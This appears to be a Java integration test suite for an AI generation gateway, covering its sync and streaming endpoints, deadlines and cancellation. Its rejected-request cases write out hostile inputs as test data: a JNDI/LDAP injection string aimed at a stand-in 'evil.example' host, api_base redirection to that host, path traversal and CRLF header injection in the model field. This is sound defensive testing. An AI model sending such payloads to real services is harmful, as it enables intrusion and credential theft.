package ai.gateway.api.generate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;

import ai.gateway.api.TestCredentials;
import ai.gateway.api.TestPostgres;
import ai.gateway.schemas.v1.GenerationJob;
import ai.gateway.schemas.v1.JobControl;
import ai.gateway.schemas.v1.JobControlAction;
import ai.gateway.schemas.v1.JobKind;
import ai.gateway.api.TestHttp;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.core.io.buffer.DataBuffer;
import org.springframework.core.io.buffer.DataBufferUtils;
import org.springframework.core.io.buffer.DefaultDataBufferFactory;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.kafka.test.EmbeddedKafkaKraftBroker;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.reactive.server.EntityExchangeResult;
import org.springframework.test.web.reactive.server.WebTestClient;
import org.springframework.web.reactive.function.BodyInserters;
import org.springframework.web.reactive.function.client.WebClient;
import reactor.core.publisher.Flux;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The gateway end to end on a real KRaft broker, with {@link TestWorker} answering jobs as a worker would.
 * Every rejected request is also checked to have put nothing on {@code ai.jobs}.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
    "gateway.deadline=4s",
    // Many accepted requests in a few seconds here; the limits have their own tests.
    "gateway.rate-limit.windows[0].period=1s", "gateway.rate-limit.windows[0].limit=100000"})
@ActiveProfiles("test")
@DirtiesContext
class GenerateIT {

  private static final String EMOJI = "\uD83D\uDE00";
  private static final String SECRET = "sk-live-secret-4f2a";
  private static final String EVIL_HOST = "evil.example";
  private static final int MIB = 1024 * 1024;
  private static final String USER = "generate-it-user";
  private static final TestPostgres.Database DATABASE = TestPostgres.newDatabase();

  private static final String BEARER = "Bearer " + TestCredentials.jwt(USER);
  private static EmbeddedKafkaKraftBroker broker;
  private static @Nullable TestWorker worker;
  private static boolean userCreated;

  @LocalServerPort
  int port;

  @Autowired
  JsonMapper json;

  private WebTestClient client;

  @BeforeAll
  static void startBroker() {
    broker = new EmbeddedKafkaKraftBroker(1, 3);
    broker.afterPropertiesSet();
  }

  @DynamicPropertySource
  static void kafka(DynamicPropertyRegistry registry) {
    registry.add("spring.kafka.bootstrap-servers", () -> broker.getBrokersAsString());
    DATABASE.register(registry);
  }

  @AfterAll
  static void stopBroker() throws InterruptedException {
    if (worker != null) {
      worker.close();
      worker = null;
    }
    broker.destroy();
  }

  @BeforeEach
  void setUp() {
    if (!userCreated) {
      TestCredentials.createUser(TestHttp.bindToServer().baseUrl("http://localhost:" + port).build(), USER, "pro");
      userCreated = true;
    }
    client = TestHttp.bindToServer().baseUrl("http://localhost:" + port)
        .defaultHeader(HttpHeaders.AUTHORIZATION, BEARER)
        .responseTimeout(Duration.ofSeconds(20))
        .codecs(codecs -> codecs.defaultCodecs().maxInMemorySize(16 * MIB))
        .build();
    if (worker == null) {
      worker = new TestWorker(broker.getBrokersAsString()); // the gateway created the topics at its start
    }
  }

  @Test
  void shouldAnswerSyncGenerateWithConcatenatedContentUsageAndCost() {
    // given: a reply to a job nobody waits for is ignored
    worker().send(Fixtures.chunk(UUID.randomUUID().toString(), 1, 1, "stray"));

    // when
    EntityExchangeResult<byte[]> result = client.post().uri("/v1/generate")
        .contentType(MediaType.APPLICATION_JSON)
        .header("X-Request-Id", "it-sync-1")
        .bodyValue("""
            {"prompt":"Say hello","maxTokens":50}
            """)
        .exchange()
        .expectStatus().isOk()
        .expectHeader().contentTypeCompatibleWith(MediaType.APPLICATION_JSON)
        .expectHeader().valueEquals("X-Request-Id", "it-sync-1")
        .expectBody().returnResult();

    // then
    JsonNode body = json.readTree(result.getResponseBodyContent());
    assertThat(propertyNames(body)).containsExactly("jobId", "content", "provider", "model", "finishReason", "usage", "costUsd");
    assertThat(body.get("content").asString()).isEqualTo("Hello, world");
    assertThat(body.get("provider").asString()).isEqualTo("openai");
    assertThat(body.get("model").asString()).isEqualTo("gpt-test-2026");
    assertThat(body.get("finishReason").asString()).isEqualTo("stop");
    assertThat(body.get("usage").toString()).isEqualTo("{\"promptTokens\":3,\"completionTokens\":3,\"totalTokens\":6,\"estimated\":false}");
    assertThat(body.get("costUsd").isNumber()).isTrue();
    assertThat(body.get("costUsd").decimalValue()).isEqualByComparingTo("0.00015");
    String jobId = body.get("jobId").asString();
    assertThat(UUID.fromString(jobId).version()).isEqualTo(7);

    GenerationJob job = jobWithRequestId("it-sync-1");
    assertThat(job.getJobId()).isEqualTo(jobId);
    assertThat(job.getKind()).isEqualTo(JobKind.SYNC);
    assertThat(job.getUserId()).isEqualTo(USER);
    assertThat(job.getMaxTokens()).isEqualTo(50);
    assertThat(job.getTemperature()).isEqualTo(0.7);
    assertThat(job.getDelivery()).isEqualTo(1);
    assertThat(job.getReplyTo()).startsWith("gw-");
    assertThat(Duration.between(job.getCreatedAt(), job.getDeadlineAt())).isEqualTo(Duration.ofSeconds(4));
    assertThat(worker().controlsFor(jobId)).isEmpty();
  }

  @Test
  void shouldStreamChunksThenDoneWithAttemptDotSeqIds() {
    byte[] raw = client.post().uri("/v1/generate/stream")
        .contentType(MediaType.APPLICATION_JSON)
        .accept(MediaType.TEXT_EVENT_STREAM)
        .header("X-Request-Id", "it-stream-1")
        .bodyValue("{\"prompt\":\"Say hello\"}")
        .exchange()
        .expectStatus().isOk()
        .expectHeader().contentTypeCompatibleWith(MediaType.TEXT_EVENT_STREAM)
        .expectBody(byte[].class).returnResult().getResponseBody();

    String text = new String(raw, StandardCharsets.UTF_8);
    List<Map<String, String>> events = parseSse(text);
    String jobId = jobWithRequestId("it-stream-1").getJobId();
    assertThat(events).extracting(e -> e.get("id")).containsExactly("1.1", "1.2", "1.3", "1.4");
    assertThat(events).extracting(e -> e.get("event")).containsExactly("chunk", "chunk", "chunk", "done");
    assertThat(json.readTree(events.get(0).get("data")).toString())
        .isEqualTo("{\"jobId\":\"" + jobId + "\",\"content\":\"Hello\"}");
    JsonNode done = json.readTree(events.get(3).get("data"));
    assertThat(propertyNames(done)).containsExactly("jobId", "provider", "model", "finishReason", "usage", "costUsd");
    assertThat(done.get("usage").get("totalTokens").asInt()).isEqualTo(6);
    assertThat(done.get("costUsd").decimalValue()).isEqualByComparingTo("0.00015");
    assertThat(text).doesNotContain("[DONE]");
    assertThat(jobWithRequestId("it-stream-1").getKind()).isEqualTo(JobKind.STREAM);
  }

  @Test
  void shouldAnswerAnErrorBeforeAnyChunkWithARealHttpStatus() {
    client.post().uri("/v1/generate/stream")
        .contentType(MediaType.APPLICATION_JSON)
        .accept(MediaType.TEXT_EVENT_STREAM)
        .header("X-Request-Id", "it-stream-429")
        .bodyValue("{\"prompt\":\"scenario:error-first\"}")
        .exchange()
        .expectStatus().isEqualTo(429)
        .expectHeader().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)
        .expectHeader().valueEquals(HttpHeaders.RETRY_AFTER, "3")
        .expectBody()
        .jsonPath("$.type").isEqualTo("urn:ai-gateway:error:RATE_LIMITED")
        .jsonPath("$.title").isNotEmpty()
        .jsonPath("$.status").isEqualTo(429)
        .jsonPath("$.detail").isEqualTo("The provider failed.")
        .jsonPath("$.code").isEqualTo("RATE_LIMITED")
        .jsonPath("$.retryable").isEqualTo(true)
        .jsonPath("$.provider").isEqualTo("openai")
        .jsonPath("$.requestId").isEqualTo("it-stream-429");

    client.post().uri("/v1/generate")
        .contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"prompt\":\"scenario:provider-error-first\"}")
        .exchange()
        .expectStatus().isEqualTo(502)
        .expectBody()
        .jsonPath("$.code").isEqualTo("PROVIDER_ERROR")
        .jsonPath("$.provider").isEqualTo("openai");
  }

  @Test
  void shouldSendAnErrorAfterChunksAsTheLastEvent() {
    byte[] raw = client.post().uri("/v1/generate/stream")
        .contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"prompt\":\"scenario:error-after-chunks\"}")
        .exchange()
        .expectStatus().isOk()
        .expectBody(byte[].class).returnResult().getResponseBody();

    List<Map<String, String>> events = parseSse(new String(raw, StandardCharsets.UTF_8));
    assertThat(events).extracting(e -> e.get("event")).containsExactly("chunk", "chunk", "error");
    assertThat(events.get(2).get("id")).isEqualTo("1.3");
    assertThat(json.readTree(events.get(2).get("data")).toString())
        .isEqualTo("{\"code\":\"PROVIDER_ERROR\",\"message\":\"The provider failed.\",\"retryable\":true,\"provider\":\"openai\"}");
  }

  @Test
  void shouldKeepAliveAndCancelTheJobWhenTheStreamClientLeaves() {
    // when: read the raw stream up to the first chunk and one keep-alive comment, then hang up
    StringBuilder wire = new StringBuilder();
    TestHttp.webClient("http://localhost:" + port).post().uri("/v1/generate/stream")
        .header(HttpHeaders.AUTHORIZATION, BEARER)
        .contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"prompt\":\"scenario:slow\"}")
        .retrieve()
        .bodyToFlux(DataBuffer.class)
        .map(buffer -> {
          String text = buffer.toString(StandardCharsets.UTF_8);
          DataBufferUtils.release(buffer);
          return text;
        })
        .takeUntil(text -> wire.append(text).indexOf(": keep-alive\n\n") >= 0)
        .blockLast(Duration.ofSeconds(10));

    // then
    List<Map<String, String>> events = parseSse(wire.toString());
    assertThat(events).extracting(e -> e.get("id")).containsExactly("1.1");
    assertThat(events).extracting(e -> e.get("event")).containsExactly("chunk");
    assertThat(wire.toString()).endsWith("\n\n: keep-alive\n\n");
    String jobId = json.readTree(events.get(0).get("data")).get("jobId").asString();
    await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(worker().controlsFor(jobId)).singleElement()
        .satisfies(control -> {
          assertThat(control.getAction()).isEqualTo(JobControlAction.CANCEL);
          assertThat(control.getReason()).isEqualTo("client-disconnected");
          assertThat(control.getUserId()).isEqualTo(USER);
        }));
  }

  @Test
  void shouldCancelTheJobWhenTheSyncClientLeaves() {
    TestHttp.webClient("http://localhost:" + port).post().uri("/v1/generate")
        .header(HttpHeaders.AUTHORIZATION, BEARER)
        .contentType(MediaType.APPLICATION_JSON)
        .header("X-Request-Id", "it-sync-leaves")
        .bodyValue("{\"prompt\":\"scenario:silent\"}")
        .retrieve()
        .bodyToMono(String.class)
        .timeout(Duration.ofMillis(1_500))
        .onErrorComplete()
        .block(Duration.ofSeconds(10));

    String jobId = jobWithRequestId("it-sync-leaves").getJobId();
    await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(worker().controlsFor(jobId))
        .extracting(JobControl::getReason).containsExactly("client-disconnected"));
  }

  @Test
  void shouldTimeOutAtTheDeadlineAndCancelTheJob() {
    long start = System.nanoTime();

    client.post().uri("/v1/generate")
        .contentType(MediaType.APPLICATION_JSON)
        .header("X-Request-Id", "it-deadline")
        .bodyValue("{\"prompt\":\"scenario:silent\"}")
        .exchange()
        .expectStatus().isEqualTo(504)
        .expectBody()
        .jsonPath("$.code").isEqualTo("TIMEOUT")
        .jsonPath("$.retryable").isEqualTo(true);

    assertThat(Duration.ofNanos(System.nanoTime() - start)).isBetween(Duration.ofMillis(3_500), Duration.ofSeconds(10));
    String jobId = jobWithRequestId("it-deadline").getJobId();
    await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(worker().controlsFor(jobId))
        .extracting(JobControl::getReason).containsExactly("deadline-exceeded"));
  }

  static Stream<Arguments> rejectedRequests() {
    byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
    return Stream.of(
        rejected("truncated JSON", "{\"prompt\":\"hi\"", 400, "INVALID_REQUEST"),
        rejected("trailing garbage", "{\"prompt\":\"hi\"} garbage", 400, "INVALID_REQUEST"),
        rejected("byte order mark", concat(bom, "{\"prompt\":\"hi\"}".getBytes(StandardCharsets.UTF_8)), 400, "INVALID_REQUEST"),
        rejected("empty body", "", 400, "INVALID_REQUEST"),
        rejected("maxTokens as string", "{\"prompt\":\"hi\",\"maxTokens\":\"100\"}", 400, "INVALID_REQUEST", "maxTokens"),
        rejected("prompt as number", "{\"prompt\":123}", 400, "INVALID_REQUEST", "prompt"),
        rejected("stream as yes", "{\"prompt\":\"hi\",\"stream\":\"yes\"}", 400, "INVALID_REQUEST", "stream"),
        rejected("null prompt", "{\"prompt\":null}", 400, "INVALID_REQUEST", "prompt"),
        rejected("missing prompt", "{\"maxTokens\":10}", 400, "INVALID_REQUEST", "prompt"),
        rejected("api_base", "{\"prompt\":\"hi\",\"api_base\":\"https://" + EVIL_HOST + "/v1\"}", 400, "INVALID_REQUEST", "api_base"),
        rejected("base_url", "{\"prompt\":\"hi\",\"base_url\":\"https://" + EVIL_HOST + "\"}", 400, "INVALID_REQUEST", "base_url"),
        rejected("api_key", "{\"prompt\":\"hi\",\"api_key\":\"" + SECRET + "\"}", 400, "INVALID_REQUEST", "api_key"),
        rejected("headers", "{\"prompt\":\"hi\",\"headers\":{\"Authorization\":\"Bearer " + SECRET + "\"}}", 400, "INVALID_REQUEST", "headers"),
        rejected("nested smuggling", "{\"prompt\":{\"text\":\"hi\",\"api_base\":\"https://" + EVIL_HOST + "\"}}", 400, "INVALID_REQUEST", "prompt"),
        rejected("smuggling in metadata", "{\"prompt\":\"hi\",\"metadata\":{\"api_key\":\"" + SECRET + "\"}}", 400, "INVALID_REQUEST", "metadata"),
        rejected("duplicate prompt", "{\"prompt\":\"hi\",\"prompt\":\"" + SECRET + "\"}", 400, "INVALID_REQUEST"),
        rejected("deep nesting", "{\"prompt\":\"hi\",\"x\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}", 400, "INVALID_REQUEST"),
        rejected("deep nesting at the root", "[".repeat(10_000) + "]".repeat(10_000), 400, "INVALID_REQUEST"),
        rejected("maxTokens 4097", "{\"prompt\":\"hi\",\"maxTokens\":4097}", 400, "INVALID_REQUEST", "maxTokens"),
        rejected("maxTokens 0", "{\"prompt\":\"hi\",\"maxTokens\":0}", 400, "INVALID_REQUEST", "maxTokens"),
        rejected("maxTokens -1", "{\"prompt\":\"hi\",\"maxTokens\":-1}", 400, "INVALID_REQUEST", "maxTokens"),
        rejected("maxTokens 2^31", "{\"prompt\":\"hi\",\"maxTokens\":2147483648}", 400, "INVALID_REQUEST", "maxTokens"),
        rejected("maxTokens 1e3", "{\"prompt\":\"hi\",\"maxTokens\":1e3}", 400, "INVALID_REQUEST", "maxTokens"),
        rejected("temperature 2.5", "{\"prompt\":\"hi\",\"temperature\":2.5}", 400, "INVALID_REQUEST", "temperature"),
        rejected("anthropic temperature 1.5", "{\"prompt\":\"hi\",\"provider\":\"anthropic\",\"temperature\":1.5}", 400,
            "INVALID_REQUEST", "temperature"),
        rejected("prompt of 100,001 code points", "{\"prompt\":\"" + EMOJI.repeat(100_000) + "a\"}", 400, "CONTEXT_LENGTH_EXCEEDED"),
        rejected("NUL in prompt", "{\"prompt\":\"a\\u0000b\"}", 400, "INVALID_REQUEST", "prompt"),
        rejected("lone surrogate in prompt", "{\"prompt\":\"a\\ud800b\"}", 400, "INVALID_REQUEST", "prompt"),
        rejected("unknown provider", "{\"prompt\":\"hi\",\"provider\":\"azure\"}", 400, "INVALID_REQUEST", "provider"),
        rejected("gemini model with a path", "{\"prompt\":\"hi\",\"provider\":\"gemini\",\"model\":\"../../v1/files\"}", 400,
            "INVALID_REQUEST", "model"),
        rejected("gemini model with a query", "{\"prompt\":\"hi\",\"provider\":\"gemini\",\"model\":\"gemini?key=" + SECRET + "\"}",
            400, "INVALID_REQUEST", "model"),
        rejected("model with CRLF", "{\"prompt\":\"hi\",\"model\":\"gpt\\r\\nX-Injected: 1\"}", 400, "INVALID_REQUEST", "model"),
        rejected("model over 200 characters", "{\"prompt\":\"hi\",\"model\":\"" + "m".repeat(201) + "\"}", 400,
            "INVALID_REQUEST", "model"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("rejectedRequests")
  void shouldRejectBadInputOnBothEndpointsWithoutPublishing(String name, byte[] body, int status, String code,
                                                            @Nullable String field) {
    for (String path : List.of("/v1/generate", "/v1/generate/stream")) {
      String requestId = "bad-" + UUID.randomUUID();
      EntityExchangeResult<byte[]> result = client.post().uri(path)
          .contentType(MediaType.APPLICATION_JSON)
          .header("X-Request-Id", requestId)
          .bodyValue(body)
          .exchange()
          .expectStatus().isEqualTo(status)
          .expectBody().returnResult();

      JsonNode problem = assertProblem(result, status, code, requestId);
      if (field != null) {
        assertThat(problem.get("errors").findValuesAsString("field")).contains(field);
      }
      assertNothingPublished(requestId);
    }
  }

  @Test
  void shouldAcceptTheLimitsThemselves() {
    String body = "{\"prompt\":\"" + EMOJI.repeat(99_990) + "\",\"systemPrompt\":\"" + "s".repeat(10) + "\",\"maxTokens\":4096,"
        + "\"temperature\":2,\"provider\":\"gemini\",\"model\":\"gemini-2.5-flash\"}";

    client.post().uri("/v1/generate")
        .contentType(MediaType.APPLICATION_JSON)
        .header("X-Request-Id", "it-limits")
        .bodyValue(body)
        .exchange()
        .expectStatus().isOk();

    GenerationJob job = jobWithRequestId("it-limits");
    assertThat(job.getMaxTokens()).isEqualTo(4096);
    assertThat(job.getPrompt().codePointCount(0, job.getPrompt().length()) + job.getSystemPrompt().length()).isEqualTo(100_000);
    assertThat(job.getProvider()).isEqualTo("gemini");
    assertThat(job.getModel()).isEqualTo("gemini-2.5-flash");
  }

  @Test
  void shouldRefuseABodyOverFourMebibytesWith413() {
    byte[] body = oversizedJson(4 * MIB + 1);
    String requestId = "it-413-length";

    EntityExchangeResult<byte[]> result = client.post().uri("/v1/generate")
        .contentType(MediaType.APPLICATION_JSON)
        .header("X-Request-Id", requestId)
        .bodyValue(body)
        .exchange()
        .expectStatus().isEqualTo(413)
        .expectBody().returnResult();

    assertProblem(result, 413, "INVALID_REQUEST", requestId);
    assertNothingPublished(requestId);
  }

  @Test
  void shouldStopReadingAChunkedBodyAtTheCapWith413() {
    byte[] body = oversizedJson(4 * MIB + 1);
    List<DataBuffer> chunks = new ArrayList<>();
    for (int offset = 0; offset < body.length; offset += 64 * 1024) {
      int length = Math.min(64 * 1024, body.length - offset);
      chunks.add(DefaultDataBufferFactory.sharedInstance.wrap(java.util.Arrays.copyOfRange(body, offset, offset + length)));
    }
    String requestId = "it-413-chunked";

    EntityExchangeResult<byte[]> result = client.post().uri("/v1/generate/stream")
        .contentType(MediaType.APPLICATION_JSON)
        .header("X-Request-Id", requestId)
        .body(BodyInserters.fromDataBuffers(Flux.fromIterable(chunks)))
        .exchange()
        .expectStatus().isEqualTo(413)
        .expectBody().returnResult();

    assertThat(result.getRequestHeaders().getContentLength()).isEqualTo(-1);
    assertProblem(result, 413, "INVALID_REQUEST", requestId);
    assertNothingPublished(requestId);
  }

  @Test
  void shouldAnswer415ForOtherContentTypes() {
    for (MediaType type : List.of(MediaType.APPLICATION_FORM_URLENCODED, MediaType.TEXT_PLAIN,
        MediaType.parseMediaType("application/json;charset=ISO-8859-1"))) {
      String requestId = "it-415-" + UUID.randomUUID();
      EntityExchangeResult<byte[]> result = client.post().uri("/v1/generate")
          .contentType(type)
          .header("X-Request-Id", requestId)
          .bodyValue("{\"prompt\":\"hi\"}")
          .exchange()
          .expectStatus().isEqualTo(415)
          .expectBody().returnResult();
      assertProblem(result, 415, "INVALID_REQUEST", requestId);
      assertNothingPublished(requestId);
    }
  }

  @Test
  void shouldAnswer406WhenAcceptExcludesWhatTheEndpointProduces() {
    for (var target : Map.of("/v1/generate", MediaType.TEXT_PLAIN, "/v1/generate/stream", MediaType.APPLICATION_JSON).entrySet()) {
      String requestId = "it-406-" + UUID.randomUUID();
      EntityExchangeResult<byte[]> result = client.post().uri(target.getKey())
          .contentType(MediaType.APPLICATION_JSON)
          .accept(target.getValue())
          .header("X-Request-Id", requestId)
          .bodyValue("{\"prompt\":\"hi\"}")
          .exchange()
          .expectStatus().isEqualTo(406)
          .expectBody().returnResult();
      assertProblem(result, 406, "INVALID_REQUEST", requestId);
      assertNothingPublished(requestId);
    }
  }

  @Test
  void shouldRejectAMalformedRequestIdWithoutReflectingIt() {
    EntityExchangeResult<byte[]> result = client.post().uri("/v1/generate")
        .contentType(MediaType.APPLICATION_JSON)
        .header("X-Request-Id", "bad id with spaces and ${jndi:ldap://" + EVIL_HOST + "/x}")
        .bodyValue("{\"prompt\":\"hi\"}")
        .exchange()
        .expectStatus().isEqualTo(400)
        .expectBody().returnResult();

    String generated = result.getResponseHeaders().getFirst("X-Request-Id");
    assertThat(generated).matches("[A-Za-z0-9_-]{1,255}");
    JsonNode problem = assertProblem(result, 400, "INVALID_REQUEST", generated);
    assertThat(problem.get("errors").findValuesAsString("field")).containsExactly("X-Request-Id");
    assertNothingPublished(generated);
  }

  @Test
  void shouldAnswerUnknownRoutesAndMethodsWithProblems() {
    client.get().uri("/v1/nothing-here").exchange()
        .expectStatus().isNotFound()
        .expectHeader().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)
        .expectBody().jsonPath("$.code").isEqualTo("NOT_FOUND");
    client.get().uri("/v1/generate").exchange()
        .expectStatus().isEqualTo(405)
        .expectBody().jsonPath("$.code").isEqualTo("INVALID_REQUEST");
  }

  @Test
  void shouldServeHealthMetricsAndOpenApi() {
    client.get().uri("/actuator/health").exchange()
        .expectStatus().isOk()
        .expectBody().jsonPath("$.status").isEqualTo("UP");
    client.get().uri("/actuator/health/readiness").exchange()
        .expectStatus().isOk()
        .expectBody().jsonPath("$.status").isEqualTo("UP");
    client.get().uri("/actuator/prometheus").exchange()
        .expectStatus().isOk()
        .expectBody(String.class).value(text -> assertThat(text).contains("jvm_memory_used_bytes"));
    client.get().uri("/v3/api-docs").exchange()
        .expectStatus().isOk()
        .expectBody()
        .jsonPath("$.paths['/v1/generate'].post").exists()
        .jsonPath("$.paths['/v1/generate/stream'].post").exists()
        .jsonPath("$.components.schemas.GenerateRequest.properties.maxTokens").exists();
  }

  // --- helpers

  private static Arguments rejected(String name, String body, int status, String code) {
    return rejected(name, body, status, code, null);
  }

  private static Arguments rejected(String name, String body, int status, String code, @Nullable String field) {
    return Arguments.of(name, body.getBytes(StandardCharsets.UTF_8), status, code, field);
  }

  private static Arguments rejected(String name, byte[] body, int status, String code) {
    return Arguments.of(name, body, status, code, null);
  }

  private JsonNode assertProblem(EntityExchangeResult<byte[]> result, int status, String code, String requestId) {
    assertThat(result.getResponseHeaders().getContentType()).isNotNull()
        .satisfies(type -> assertThat(type.isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)).isTrue());
    assertThat(result.getResponseHeaders().getFirst("X-Request-Id")).isEqualTo(requestId);
    String text = new String(result.getResponseBodyContent(), StandardCharsets.UTF_8);
    // never the caller's input, a stack trace, or a library's message
    assertThat(text).doesNotContain(SECRET, EVIL_HOST, "Exception", "jackson", "\tat ", "garbage", "ldap", EMOJI);
    JsonNode problem = json.readTree(text);
    assertThat(problem.get("type").asString()).isEqualTo("urn:ai-gateway:error:" + code);
    assertThat(problem.get("title").asString()).isNotBlank();
    assertThat(problem.get("status").asInt()).isEqualTo(status);
    assertThat(problem.get("detail").asString()).isNotBlank();
    assertThat(problem.get("code").asString()).isEqualTo(code);
    assertThat(problem.get("retryable").asBoolean()).isFalse();
    assertThat(problem.get("requestId").asString()).isEqualTo(requestId);
    assertThat(problem.has("provider")).isFalse();
    return problem;
  }

  /** A valid probe job is answered only after the worker has read past everything published before it on its partition. */
  private void assertNothingPublished(String requestId) {
    String probe = "probe-" + UUID.randomUUID();
    client.post().uri("/v1/generate")
        .contentType(MediaType.APPLICATION_JSON)
        .header("X-Request-Id", probe)
        .bodyValue("{\"prompt\":\"probe\"}")
        .exchange()
        .expectStatus().isOk();
    assertThat(worker().sawRequest(probe)).isTrue();
    assertThat(worker().sawRequest(requestId)).as("a job was published for rejected request %s", requestId).isFalse();
  }

  private GenerationJob jobWithRequestId(String requestId) {
    await().atMost(Duration.ofSeconds(10)).until(() -> worker().sawRequest(requestId));
    return worker().jobs.stream().filter(job -> requestId.equals(job.getRequestId())).findFirst().orElseThrow();
  }

  private static TestWorker worker() {
    if (worker == null) {
      throw new IllegalStateException("worker not started");
    }
    return worker;
  }

  private static List<String> propertyNames(JsonNode node) {
    List<String> names = new ArrayList<>();
    node.propertyNames().forEach(names::add);
    return names;
  }

  /** {@code {"prompt":"xxxx…"}} of exactly {@code size} bytes. */
  private static byte[] oversizedJson(int size) {
    String head = "{\"prompt\":\"";
    String tail = "\"}";
    return (head + "x".repeat(size - head.length() - tail.length()) + tail).getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] out = new byte[a.length + b.length];
    System.arraycopy(a, 0, out, 0, a.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }

  /** Events of a {@code text/event-stream} body as field maps; comment-only blocks are kept as {@code comment}. */
  private static List<Map<String, String>> parseSse(String text) {
    List<Map<String, String>> events = new ArrayList<>();
    for (String block : text.split("\n\n")) {
      if (block.isBlank()) {
        continue;
      }
      Map<String, String> fields = new LinkedHashMap<>();
      for (String line : block.split("\n")) {
        int colon = line.indexOf(':');
        String field = colon == 0 ? "comment" : line.substring(0, colon);
        String value = line.substring(colon + 1);
        fields.merge(field, value.startsWith(" ") && !field.equals("comment") ? value.substring(1) : value, (a, b) -> a + "\n" + b);
      }
      if (!fields.containsKey("comment") || fields.size() > 1) {
        events.add(fields);
      }
    }
    return events;
  }
}
